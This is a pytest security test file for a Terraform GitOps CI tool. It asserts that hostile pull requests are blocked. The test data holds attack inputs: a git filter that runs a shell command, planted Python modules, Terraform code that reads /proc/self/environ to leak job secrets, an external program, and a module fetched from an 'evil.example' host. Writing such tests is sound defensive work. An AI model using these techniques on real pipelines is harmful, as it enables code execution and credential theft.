"""What a hostile pull request tries, on the real thing."""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Mapping
from pathlib import Path

import pytest

from tests.integration.command_line import gitops_ci
from tests.integration.repositories import Scratch

ROOT = 'resource "terraform_data" "a" {\n  input = "1"\n}\n'
MAIN = "environments/staging/terraform/main.tf"


@pytest.fixture
def repository(tmp_path: Path) -> Scratch:
    scratch = Scratch(tmp_path / "repository")
    scratch.commit({"README.md": "# here\n"})
    return scratch


def test_a_report_is_not_written_through_a_link(repository: Scratch, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (repository.path / "out").symlink_to(elsewhere)
    repository.commit({MAIN: ROOT})
    outcome = gitops_ci(repository.path, "run", "--base", "HEAD~1", "--out", "out")
    assert outcome.code == 2
    assert not list(elsewhere.iterdir())


def test_a_package_of_our_name_is_not_imported(repository: Scratch) -> None:
    planted = "open('planted', 'w')\n"
    repository.commit(
        {"gitops_ci/__init__.py": planted, "sitecustomize.py": planted, "msgspec.py": planted, MAIN: ROOT}
    )
    assert gitops_ci(repository.path, "run", "--base", "HEAD~1").code == 0
    assert not list(repository.path.rglob("planted"))


def test_a_folder_that_is_found_by_name_at_plan_time_is_there(repository: Scratch) -> None:
    computed = 'variable "d" {\n  default = "../../../data"\n}\n'
    computed += 'resource "terraform_data" "x" {\n  for_each = fileset(var.d, "*.txt")\n  input    = each.value\n}\n'
    repository.commit({MAIN: computed, "data/a.txt": "", "data/b.txt": ""})
    outcome = gitops_ci(repository.path, "run", "--base", "HEAD~1")
    [plan] = outcome.report.plans
    assert plan.summary.create == 2


def test_replaced_objects_are_not_what_is_judged(repository: Scratch) -> None:
    head = repository.commit({MAIN: ROOT})
    harmless = repository.git("commit-tree", "-p", "HEAD~1", "-m", "harmless", "HEAD~1^{tree}")
    repository.git("replace", head, harmless)
    outcome = gitops_ci(repository.path, "run", "--base", "HEAD~1", "--head", head)
    assert [stack.id for stack in outcome.report.stacks] == ["staging/terraform/main"]


def test_messages_on_stderr_are_no_commands(repository: Scratch) -> None:
    repository.commit({"gitops-ci.yml": 'version: 1\n"a\\n::error::x": 1\n"\\e[31m": 1\n'})
    outcome = gitops_ci(repository.path, "run", "--base", "HEAD")
    assert outcome.code == 2
    assert not any(line.lstrip().startswith("::") for line in outcome.stderr.splitlines())
    assert "\x1b" not in outcome.stderr


def reasons(repository: Scratch, *arguments: str, env: Mapping[str, str] | None = None) -> tuple[int, set[str]]:
    """The exit code of a run and the codes of plans that there are not."""
    outcome = gitops_ci(repository.path, "run", "--base", "HEAD~1", *arguments, env=env)
    return outcome.code, {plan.reason.code for plan in outcome.report.plans if plan.reason is not None}


def test_a_tracked_folder_that_git_takes_for_a_repository_runs_nothing(repository: Scratch, tmp_path: Path) -> None:
    ran = tmp_path / "ran"
    settings = f'[core]\n\tbare = false\n\tworktree = ..\n[filter "x"]\n\tclean = "touch {ran}; cat"\n'
    planted = {"HEAD": "ref: refs/heads/main\n", "objects/x": "", "refs/x": "", "config": settings}
    planted |= {".gitattributes": "* filter=x\n", "terraform/main.tf": ROOT}
    repository.commit({f"infra/{name}": content for name, content in planted.items()})
    for command in ("layout", "affected"):
        outcome = gitops_ci(tmp_path, "--repo", str(repository.path / "infra" / "terraform"), command)
        assert outcome.code == 2
        assert "looks like a git repository" in outcome.stderr
    assert not ran.exists()


def test_a_pushed_merge_does_not_choose_its_own_base(repository: Scratch, tmp_path: Path) -> None:
    base = repository.git("rev-parse", "HEAD")
    head = repository.commit({"README.md": "# harmless\n"})
    evil = repository.commit({MAIN: ROOT})
    merge = repository.git("commit-tree", "-p", evil, "-p", head, "-m", "a merge", "HEAD^{tree}")
    repository.git("reset", "--quiet", "--hard", merge)
    payload = tmp_path / "event.json"
    payload.write_text(json.dumps({"pull_request": {"number": 7, "base": {"sha": base}, "head": {"sha": head}}}))
    outcome = gitops_ci(repository.path, "run", env={"GITHUB_EVENT_PATH": str(payload)})
    assert [stack.id for stack in outcome.report.stacks] == ["staging/terraform/main"]
    assert (outcome.report.base, outcome.report.head) == (base, merge)


@pytest.mark.parametrize(
    "attributes", ["*.tf ident", "/environments/** eol=crlf", "[attr]x filter=lfs\n*.tf x", '"*.t\\146" ident']
)
def test_what_a_checkout_rewrites_is_not_planned_as_it_is_committed(repository: Scratch, attributes: str) -> None:
    counted = 'resource "terraform_data" "a" {\n  count = length("$Id$") > 5 ? 3 : 0\n}\n'
    repository.commit({".gitattributes": f"{attributes}\n", MAIN: counted})
    assert reasons(repository, "--head", "HEAD") == (3, {"rewritten"})


def test_attributes_of_other_files_hold_nothing_up(repository: Scratch) -> None:
    repository.commit({".gitattributes": "* text=auto\n*.png filter=lfs\n*.bat eol=crlf\n", MAIN: ROOT})
    assert reasons(repository) == (0, set())


def test_a_link_to_where_another_machine_has_something_is_not_left_out(repository: Scratch) -> None:
    lenient = "version: 1\npolicy:\n  severity:\n    layout/*: off\n"
    repository.commit({MAIN: ROOT, "gitops-ci.yml": lenient, "hidden/evil.txt": ROOT})
    link = repository.path / MAIN.replace("main.tf", "evil.tf")
    link.symlink_to(repository.path / "hidden" / "evil.txt")
    repository.commit()
    assert reasons(repository) == (3, {"unreadable"})


def test_terraform_does_not_speak_for_opentofu(repository: Scratch) -> None:
    if shutil.which("terraform") is None:
        pytest.skip("no terraform on PATH here")
    repository.commit({MAIN: ROOT, MAIN.replace(".tf", ".tofu"): ROOT})
    assert reasons(repository) == (3, {"engine-version"})


def test_what_a_template_reads_is_there_and_counts(repository: Scratch) -> None:
    folder = MAIN.rpartition("/")[0]
    template = '${fileexists("../../../shared/marker") ? "a,b,c" : "a"}'
    uses = 'toset(split(",", templatefile("${path.module}/x.tpl", {})))'
    content = f'resource "terraform_data" "a" {{\n  for_each = {uses}\n}}\n'
    repository.commit({MAIN: content, f"{folder}/x.tpl": template, "shared/marker": ""})
    [plan] = gitops_ci(repository.path, "run", "--base", "HEAD~1").report.plans
    assert plan.reason is not None or plan.summary.create == 3
    (repository.path / "shared" / "marker").unlink()
    repository.commit()
    affected = gitops_ci(repository.path, "affected", "--base", "HEAD~1", "--format", "json").json()
    assert [stack["id"] for stack in affected["stacks"]] == ["staging/terraform/main"]


def test_a_module_by_its_place_on_the_disk_counts(repository: Scratch) -> None:
    module = f'module "m" {{\n  source = "{repository.path}/lib"\n}}\n'
    repository.commit({MAIN: module, "lib/m.tf": ROOT})
    repository.commit({"lib/m.tf": ROOT.replace('"a"', '"b"')})
    affected = gitops_ci(repository.path, "affected", "--base", "HEAD~1", "--format", "json").json()
    assert "staging/terraform/main" in [stack["id"] for stack in affected["stacks"]]


def test_an_engine_gains_no_privileges(repository: Scratch, tmp_path: Path) -> None:
    if shutil.which("setpriv", path="/usr/bin:/bin") is None:
        pytest.skip("no setpriv here, so nothing can be told to gain none")
    said = tmp_path / "said"
    engine = tmp_path / "engine"
    engine.write_text(
        '#!/bin/sh\ncase $* in version*) echo \'{"terraform_version": "1.11.0"}\' ;;\n'
        f"*) cat /proc/self/status >{said}; exit 1 ;; esac\n"
    )
    engine.chmod(0o755)
    repository.commit({"gitops-ci.yml": f"version: 1\nkinds:\n  terraform:\n    binary: {engine}\n"})
    repository.commit({MAIN: ROOT})
    assert gitops_ci(repository.path, "run", "--base", "HEAD~1").code == 3
    assert "NoNewPrivs:\t1" in said.read_text()


LEAK = 'output "x" {\n  value = filebase64("/proc/self/environ")\n}\n'
SECRET = "s3cret-of-the-job"


def leaked(repository: Scratch) -> tuple[int, str | None, bool]:
    """Exit code, why there is no plan, and whether the engine's environment is in what was written."""
    outcome = gitops_ci(repository.path, "run", "--base", "HEAD~1", env={"TF_VAR_unused": SECRET})
    [plan] = outcome.report.plans
    text = (outcome.out / "report.json").read_text() + outcome.comment
    found = any(
        base64.b64encode(b"x" * shift + SECRET.encode()).decode()[4:20] in text for shift in range(3)
    ) or SECRET in text  # fmt: skip
    return outcome.code, plan.reason.code if plan.reason is not None else None, found


def test_a_root_that_prints_the_engines_environment_is_not_run(repository: Scratch) -> None:
    repository.commit({MAIN: LEAK})
    assert leaked(repository) == (1, "not-allowed", False)


def test_the_environment_would_have_been_printed(repository: Scratch) -> None:
    """What the check is for: where base permits the path, the credential is in the report."""
    if shutil.which("terraform") is None:
        pytest.skip("no terraform on PATH here")
    permitted = f"version: 1\nkinds: {{terraform: {{paths: {{allow: [{MAIN}]}}}}}}\n"
    repository.commit({"gitops-ci.yml": permitted})
    repository.commit({MAIN: LEAK.replace("filebase64(", "base64encode(filebase64(").replace("\n}", ")\n}")})
    outcome = gitops_ci(repository.path, "run", "--base", "HEAD~1", env={"TF_VAR_unused": SECRET})
    [plan] = outcome.report.plans
    [shown] = [str(each.after) for change in plan.outputs for each in change.attributes]
    assert SECRET.encode() in base64.b64decode(base64.b64decode(shown))  # twice: once would have been masked


@pytest.mark.parametrize(
    "files",
    [
        {MAIN.replace("main.tf", "x.tf.json"): json.dumps({"output": {"x": {"value": '${filebase64("/proc/self/environ")}'}}})},
        {MAIN: 'locals {\n  a = <<A\n*/ /*\nA\n}\nmodule "m" {\n  source = "../../../m"\n}\n', "m/x.tf": LEAK},
        {MAIN: 'locals {\n  a = <<A\n\u00a0A\n}\n' + LEAK},
        {MAIN: 'output "x" {\n  value = templatefile("x.tpl", {})\n}\n', MAIN.replace("main.tf", "x.tpl"): '${filebase64("/proc/self/environ")}'},
        {MAIN: ROOT, "gitops-ci.yml": f"version: 1\nkinds: {{terraform: {{paths: {{allow: [{MAIN}]}}}}}}\n", MAIN.replace("main", "y"): LEAK},
    ],
)  # fmt: skip
def test_nor_by_any_other_way(repository: Scratch, files: dict[str, str]) -> None:
    repository.commit(files)
    assert leaked(repository) == (1, "not-allowed", False)


def test_an_old_call_does_not_read_a_new_path(repository: Scratch) -> None:
    call = 'variable "p" {}\noutput "x" {\n  value = filebase64(var.p)\n}\n'
    values = MAIN.replace("main.tf", "terraform.tfvars")
    repository.commit({MAIN: call, values: 'p = "main.tf"\n'})
    repository.commit({values: 'p = "/proc/self/environ"\n'})
    assert leaked(repository) == (1, "not-allowed", False)


def test_no_engine_starts_for_what_is_not_allowed(repository: Scratch, tmp_path: Path) -> None:
    ran, engine = tmp_path / "ran", tmp_path / "engine"
    engine.write_text(
        f'#!/bin/sh\ncase $* in version*) echo \'{{"terraform_version": "1.11.0"}}\' ;; *) touch {ran}; exit 1 ;; esac\n'
    )
    engine.chmod(0o755)
    repository.commit({"gitops-ci.yml": f"version: 1\nkinds:\n  terraform:\n    binary: {engine}\n"})
    for content in (
        'data "external" "x" {\n  program = ["id"]\n}\n',
        'terraform {\n  required_providers {\n    x = {\n      source = "evil/x"\n    }\n  }\n}\n',
        'module "m" {\n  source = "git::https://evil.example/x.git"\n}\n',
    ):
        repository.commit({MAIN: content})
        assert reasons(repository) == (1, {"not-allowed"})
        assert not ran.exists()


def test_an_environment_that_only_warns_does_not_reach_for_production(repository: Scratch) -> None:
    binds = "environments:\n  - {name: staging, enforcement: warn}\n  - {name: production, bind: {backend: 'local:states/production/*'}}\n"
    repository.commit({"gitops-ci.yml": f"version: 1\n{binds}", "states/production/x.tfstate": ""})
    backend = 'terraform {\n  backend "local" {\n    path = "../../../states/production/x.tfstate"\n  }\n}\n'
    repository.commit({MAIN: backend + ROOT})
    assert reasons(repository) == (1, {"binding"})


def test_hcl_that_only_terraform_understands_is_not_planned_blindly(repository: Scratch) -> None:
    repository.commit({MAIN: "locals {\n  e\u0301 = 1\n}\n"})
    assert reasons(repository) == (1, {"invalid"})


def test_a_committed_state_brings_no_provider(repository: Scratch) -> None:
    repository.commit({MAIN: ROOT})
    state = {
        "version": 4,
        "resources": [
            {"mode": "managed", "type": "x_y", "name": "z", "provider": 'provider["registry.terraform.io/evil/x"]', "instances": []}
        ],
    }  # fmt: skip
    repository.commit({MAIN.replace("main.tf", "terraform.tfstate"): json.dumps(state), MAIN: f"{ROOT}locals {{}}\n"})
    assert reasons(repository) == (1, {"not-allowed"})


def test_a_state_at_a_new_server_is_not_read(repository: Scratch) -> None:
    repository.commit({MAIN: ROOT})
    backend = 'terraform {\n  backend "http" {\n    address = "http://127.0.0.1:1/state"\n  }\n}\n'
    repository.commit({MAIN: ROOT + backend})
    assert reasons(repository) == (1, {"not-allowed"})
